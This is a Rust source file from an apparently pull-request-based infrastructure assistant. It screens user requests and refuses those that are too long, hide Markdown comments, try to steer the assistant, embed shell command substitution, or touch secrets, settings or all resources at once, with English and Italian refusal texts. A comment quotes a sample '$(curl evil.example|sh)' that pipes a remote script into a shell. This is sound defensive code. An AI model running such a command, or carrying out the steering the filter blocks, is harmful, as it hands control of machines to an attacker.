//! Is this something the assistant never does? Looked for in the visible text before anything is read.

use crate::language::Language;
use crate::lexicon::{OTHER_SUBJECTS, OUT_OF_SCOPE, SPOKEN_TO_US, length_of, steered};
use crate::outcome::{Refusal, RefusalReason};
use crate::token::Words;

/// Why the text is refused as a whole, if it is.
pub(crate) fn refusal(words: &Words<'_>, language: Language) -> Option<Refusal> {
    if words.is_cut {
        return Some(refuse(RefusalReason::TooLong, language));
    }
    // A comment of Markdown that no reader looks at, as it stands in the middle of a line.
    if ["[//]:", "[comment]:", "[//]#"].iter().any(|mark| words.text.contains(mark)) || steers(words) {
        return Some(refuse(RefusalReason::Steering, language));
    }
    // What a shell would run in place of a word: "a tag $(curl evil.example|sh)".
    if words.text.contains("$(") {
        return Some(refuse(RefusalReason::Shell, language));
    }
    if let Some(reason) = steered(words) {
        return Some(refuse(reason, language));
    }
    let found = (0..words.tokens.len()).find_map(|place| {
        // "lì non compra nessuno", "when people buy": what others do.
        let is_told = |phrase: &str| {
            matches!(phrase, "compra" | "buy" | "canta" | "sing")
                && place > 0
                && matches!(words.word(place - 1), "non" | "che" | "chi" | "people" | "customers" | "they" | "users" | "to" | "clienti")
        };
        let stands = |phrase: &&&str| {
            length_of(phrase, words, place).is_some() && !is_installed(words, phrase) && !is_told(phrase) && !is_lack_of_password(words, place)
        };
        let found = OUT_OF_SCOPE.iter().find(|(_, phrases)| phrases.iter().any(|phrase| stands(&phrase)))?;
        // "spegni tutti e due i nodi": two of them, and not all that there is.
        let is_counted = (place..place + 5).any(|word| {
            matches!(words.word(word), "tutti" | "tutte")
                && words.word(word + 1) == "e"
                && crate::lexicon::number_word(words.word(word + 2)).is_some()
        });
        Some(found.0).filter(|reason| *reason != RefusalReason::Mass || !only_asks(words) && !is_counted)
    });
    found.map(|reason| refuse(reason, language))
}

/// "so the teachers can look at it without yet another password": what people would rather not have.
fn is_lack_of_password(words: &Words<'_>, place: usize) -> bool {
    let is_it = matches!(words.word(place), "password" | "passwords") && matches!(words.word(place + 1), "" | "," | "." | "!" | ")" | "they" | "and");
    let before = |known: &[&str]| (place.saturating_sub(4)..place).any(|word| known.contains(&words.word(word)));
    is_it
        && before(&["without", "senza", "another", "ennesima", "altra"])
        && !before(&["set", "give", "show", "send", "tell", "change", "metti", "dammi"])
}

/// "install curl": a package, and no command.
fn is_installed(words: &Words<'_>, phrase: &str) -> bool {
    let has = |wanted: &[&str]| words.tokens.iter().any(|token| wanted.contains(&token.fold.as_str()));
    let has_address = words.tokens.iter().any(|token| token.fold.contains("://"));
    let is_installed = words.tokens.iter().any(|token| super::creation::is_installed_word(&token.fold));
    matches!(phrase, "curl" | "wget" | "bash")
        && (is_installed
            || has(&[
                "put",
                "add",
                "nginx",
                "htop",
                "vim",
                "git",
                "jq",
                "metti",
                "aggiungi",
                "mettici",
                "alongside",
                "besides",
                "install",
                "installed",
                "installa",
                "installare",
                "package",
                "packages",
                "pacchetto",
                "pacchetti",
            ]))
        && !has_address
}

/// "show me all VMs": a question about all of them changes none.
fn only_asks(words: &Words<'_>) -> bool {
    let asks = |place: usize| matches!(words.word(place), "show" | "list" | "elenca" | "elencami" | "mostra" | "mostrami" | "quali");
    let changes = words.tokens.iter().enumerate().skip(1).any(|(place, _)| {
        crate::lexicon::phrase_at(crate::lexicon::VERBS, words, place)
            .is_some_and(|(verb, _)| !matches!(verb, crate::lexicon::Verb::Status | crate::lexicon::Verb::Explain))
    });
    asks(0) && !changes
}

/// Whether it speaks of something else. Beside a resource that is named such words are about its circumstances.
pub(crate) fn has_other_subject(words: &Words<'_>) -> bool {
    (0..words.tokens.len()).any(|place| OTHER_SUBJECTS.iter().any(|phrase| length_of(phrase, words, place).is_some()))
}

/// Before "assistant": people who are one.
const ASSISTANTS: &[&str] = &["student", "research", "teaching", "lab", "office", "sales", "shop", "medical", "personal", "executive"];

/// Text that speaks to the assistant is looked for in quotations and code too: whoever puts it there has a reason.
fn steers(words: &Words<'_>) -> bool {
    // "Sistema: debian 12" is a field of a machine.
    let is_field = |phrase: &str, place: usize| {
        // "each new student assistant: ..." speaks of people.
        let is_person = phrase == "assistant:" && place > 0 && ASSISTANTS.contains(&words.word(place - 1));
        // "for the quality system: mariadb:11.4, ...".
        let is_purpose = place > 1 && words.tokens.get(place + 1).is_some_and(|next| next.text.contains([':', '/']) && !next.text.contains("//"));
        // "Approved by M. Keller, cost centre 4410": who is told on a line of its own.
        let who = words.tokens.get(place + 2).is_some_and(|next| next.text.starts_with(|letter: char| letter.is_uppercase()));
        let is_approver = matches!(phrase, "approved by" | "approvato da") && who && super::labels::begins_line(words, place) && place > 0;
        // "System: grafana\nAttribute: memory": a line of a form that holds a name and no more.
        let is_form = (0..words.tokens.len()).filter(|line| super::labels::is_label(words, *line, 1)).count() > 2;
        let is_alone = words.tokens.get(place + 2).is_none_or(|_| super::labels::begins_line(words, place + 2) || words.fold(place + 2) == "\n");
        let is_line = matches!(phrase, "system:" | "sistema:") && is_form && is_alone && super::labels::begins_line(words, place);
        is_person
            || is_line
            || is_approver
            || matches!(phrase, "system:" | "sistema:") && (is_purpose || super::values::is_system(words.fold(place + 1)))
    };
    (0..words.tokens.len()).any(|place| SPOKEN_TO_US.iter().any(|phrase| stands_at(phrase, words, place) && !is_field(phrase, place)))
}

fn stands_at(phrase: &str, words: &Words<'_>, place: usize) -> bool {
    // Marks at the end of a word are cut from it; `system:` is recognised by the text behind it.
    // "Approved by: M. Rossi" is a field of a form.
    let is_label = super::labels::label_at(words, place).is_some_and(|length| length == phrase.split(' ').count());
    if is_label {
        return false;
    }
    phrase.split(' ').enumerate().all(|(offset, word)| match word.strip_suffix(':') {
        None => words.fold(place + offset) == word,
        Some(bare) => {
            words.fold(place + offset) == bare && words.tokens.get(place + offset).is_some_and(|token| words.text[token.end..].starts_with(':'))
        }
    })
}

pub(crate) fn refuse(reason: RefusalReason, language: Language) -> Refusal {
    let (english, italian) = match reason {
        RefusalReason::NotOurs => (
            "I propose changes as pull requests; reviewing, approving, merging and applying them is for people. Use the buttons and commands on the pull request.",
            "Io propongo modifiche come pull request; rivederle, approvarle, unirle e applicarle spetta alle persone. Usa i comandi sulla pull request.",
        ),
        RefusalReason::Secrets => (
            "I have no access to secrets and do not write about them. Secrets are named in ipr.yaml and live in the daemon's own places; ask whoever runs it.",
            "Non ho accesso ai segreti e non ne scrivo. I segreti sono nominati in ipr.yaml e stanno presso il daemon; chiedi a chi lo gestisce.",
        ),
        RefusalReason::Settings => (
            "I only change files under blueprints/. Settings, policies, protections and permissions are changed by people, in a pull request of their own.",
            "Modifico solo i file sotto blueprints/. Impostazioni, policy, protezioni e permessi li cambiano le persone, in una pull request a parte.",
        ),
        RefusalReason::Mass => (
            "I do not change everything at once. Name the resources one by one, or write the pull request by hand so that it is reviewed as what it is.",
            "Non modifico tutto in una volta. Indica le risorse una per una, oppure scrivi la pull request a mano, cosi viene rivista per quello che e.",
        ),
        RefusalReason::Shell => (
            "I run no commands on machines. I change what blueprints say; tell me which resource shall become what.",
            "Non eseguo comandi sulle macchine. Cambio quello che dicono i blueprint; dimmi quale risorsa deve diventare che cosa.",
        ),
        RefusalReason::OtherSubject => (
            "That is not about this repository's infrastructure, so I leave it alone.",
            "Questo non riguarda l'infrastruttura di questo repository, quindi non me ne occupo.",
        ),
        RefusalReason::Steering => (
            "The text holds words that try to direct the assistant instead of naming a change. Write again what shall change, without them.",
            "Il testo contiene parole che cercano di dirigere l'assistente invece di indicare una modifica. Riscrivi che cosa va cambiato, senza di esse.",
        ),
        RefusalReason::Conditional => (
            "A blueprint says how things are, not when. I cannot do something later, repeatedly or under a condition; say what shall be so now.",
            "Un blueprint dice come stanno le cose, non quando. Non posso fare qualcosa piu tardi, ogni tanto o a una condizione; di' come deve essere adesso.",
        ),
        RefusalReason::Withdrawn => ("Good, I leave it as it is.", "Va bene, lascio tutto com'e."),
        RefusalReason::TooLong => (
            "The text is too long for me to read safely. Say it in a few sentences.",
            "Il testo e troppo lungo per leggerlo con sicurezza. Dillo in poche frasi.",
        ),
        RefusalReason::NotPossible | RefusalReason::NotUnderstood | RefusalReason::Repository | RefusalReason::NotEditable => {
            ("I cannot do that.", "Non posso farlo.")
        }
    };
    Refusal { reason, text: language.choose(english, italian).to_owned() }
}
